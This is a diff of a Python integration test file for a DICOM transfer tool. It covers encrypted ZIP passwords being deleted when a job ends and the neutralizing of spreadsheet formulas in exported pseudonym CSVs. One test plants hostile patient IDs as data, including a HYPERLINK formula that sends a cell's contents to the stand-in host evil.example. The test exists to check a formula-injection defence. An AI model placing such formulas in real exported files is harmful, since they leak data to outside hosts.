@@ -6,9 +6,12 @@ worker itself, cancel and crash recovery are tested in test_worker_transfers.py.
 
 from __future__ import annotations
 
+import csv
 import datetime
 import gzip
+import io
 import struct
+from io import BytesIO
 from pathlib import Path
 
 import pytest
@@ -16,12 +19,13 @@ import pyzipper
 from pydicom import Dataset, dcmread
 
 from adit.core.dicom.operator import DicomOperator
-from adit.core.dicom.synthetic import StudySummary
+from adit.core.dicom.synthetic import StudySummary, generate_ct_series
 from adit.core.models import DicomFolder, DicomServer, Project
 from adit.core.processing import run_task
 from adit.core.statuses import JobStatus, TaskStatus
 from adit.core.tests.example_app.models import ExampleJob, ExampleTask
 from adit.core.tests.factories import run_transfer, server_for, unreachable_server
+from adit.core.tests.job_pages import stored_row, url
 
 pytestmark = [pytest.mark.integration, pytest.mark.django_db]
 
@@ -241,22 +245,106 @@ def test_folder_destination_uses_the_documented_layout(member, source, folder, o
     assert not list(Path(folder.path).rglob("*.partial"))
 
 
-def test_zip_destination_needs_the_password(member, source, folder, orthanc1_studies):
-    study = _study(orthanc1_studies)
-    task = transfer(member, source, folder, study, pseudonym="Z1", archive_password="s3cret!")
-    assert task.status == TaskStatus.SUCCESS, task.message
+def test_zip_destination_needs_the_password_which_is_deleted_when_the_job_ends(
+    member, source, folder, orthanc1_studies
+):
+    studies = orthanc1_studies[:2]
+    job = ExampleJob.objects.create(
+        owner=member, status=JobStatus.PENDING, archive_password="s3cret!"
+    )
+    tasks = [
+        ExampleTask.objects.create(
+            job=job,
+            source=source,
+            destination=folder,
+            patient_id=study.patient_id,
+            study_uid=study.study_instance_uid,
+            pseudonym=f"Z{number}",
+        )
+        for number, study in enumerate(studies)
+    ]
 
-    (archive,) = Path(folder.path).rglob("*.zip")
+    run_task(None, tasks[0]._meta.label_lower, tasks[0].pk)
+    job.refresh_from_db()
+    assert job.status == JobStatus.IN_PROGRESS  # the second study is still to come
+    assert "s3cret!" not in stored_row(job)
+    assert job.archive_password == "s3cret!"
+
+    run_task(None, tasks[1]._meta.label_lower, tasks[1].pk)
+    job.refresh_from_db()
+    assert job.status == JobStatus.SUCCESS, job.message
+    assert job.encrypted_archive_password == ""
+    assert "s3cret!" not in stored_row(job)
+
+    archives = sorted(Path(folder.path).rglob("*.zip"))
+    assert len(archives) == 2
     assert not list(Path(folder.path).rglob("*.dcm"))
-    with pyzipper.AESZipFile(archive) as zipped:
-        names = [name for name in zipped.namelist() if name.endswith(".dcm")]
-        assert len(names) == _kept_instances(study)
-        with pytest.raises(RuntimeError):
-            zipped.read(names[0])
-        zipped.setpassword(b"s3cret!")
-        from io import BytesIO
+    for archive, study, pseudonym in zip(archives, studies, ["Z0", "Z1"], strict=True):
+        with pyzipper.AESZipFile(archive) as zipped:
+            names = [name for name in zipped.namelist() if name.endswith(".dcm")]
+            assert len(names) == _kept_instances(study)
+            with pytest.raises(RuntimeError):
+                zipped.read(names[0])
+            zipped.setpassword(b"s3cret!")
+            assert dcmread(BytesIO(zipped.read(names[0]))).PatientID == pseudonym
 
-        assert dcmread(BytesIO(zipped.read(names[0]))).PatientID == "Z1"
+
+def test_zip_job_that_lost_its_password_writes_nothing(member, source, folder, orthanc1_studies):
+    """Should a job whose password is gone run anyway (the actions refuse to), it must fail
+    instead of writing the ZIPs without a password."""
+    study = _study(orthanc1_studies)
+    job = ExampleJob.objects.create(
+        owner=member, status=JobStatus.PENDING, encrypt_archive=True, encrypted_archive_password=""
+    )
+    task = ExampleTask.objects.create(
+        job=job,
+        source=source,
+        destination=folder,
+        patient_id=study.patient_id,
+        study_uid=study.study_instance_uid,
+        pseudonym="Z1",
+    )
+
+    run_task(None, task._meta.label_lower, task.pk)
+
+    task.refresh_from_db()
+    assert task.status == TaskStatus.FAILURE
+    assert "its password was deleted when the job ended" in task.message
+    assert not [path for path in Path(folder.path).rglob("*") if path.is_file()]
+
+
+def test_pseudonym_mapping_neutralizes_formulas_from_the_pacs(
+    client, member, empty_orthanc2, folder
+):
+    hostile_ids = ['=HYPERLINK("https://evil.example/?"&B2,"Details")', "+1", "@SUM(1)"]
+    for seed, patient_id in enumerate(hostile_ids):
+        study = list(generate_ct_series(2, rows=16, columns=16, seed=seed))
+        for dataset in study:
+            dataset.PatientID = patient_id
+        empty_orthanc2.upload(study)
+    source = server_for(empty_orthanc2)
+    job = ExampleJob.objects.create(owner=member, status=JobStatus.PENDING)
+    # The IDs as the PACS answers a search, as selective transfer takes them.
+    for number, found in enumerate(DicomOperator(source).find_studies(PatientID="*")):
+        task = ExampleTask.objects.create(
+            job=job,
+            source=source,
+            destination=folder,
+            patient_id=found.PatientID,
+            study_uid=found.StudyInstanceUID,
+            pseudonym=f"SUBJ-{number}",
+        )
+        run_task(None, task._meta.label_lower, task.pk)
+    job.refresh_from_db()
+    assert job.status == JobStatus.SUCCESS, job.message
+    client.force_login(member)
+
+    response = client.get(url("job_pseudonyms", job))
+
+    assert "no-store" in response["Cache-Control"].split(", ")
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert sorted(row[0] for row in rows[1:]) == sorted(f"'{value}" for value in hostile_ids)
+    assert all(row[3] for row in rows[1:])  # each transferred, under its pseudonymized UID
 
 
 def test_nifti_destination_writes_volumes(member, source, folder, orthanc1_studies):
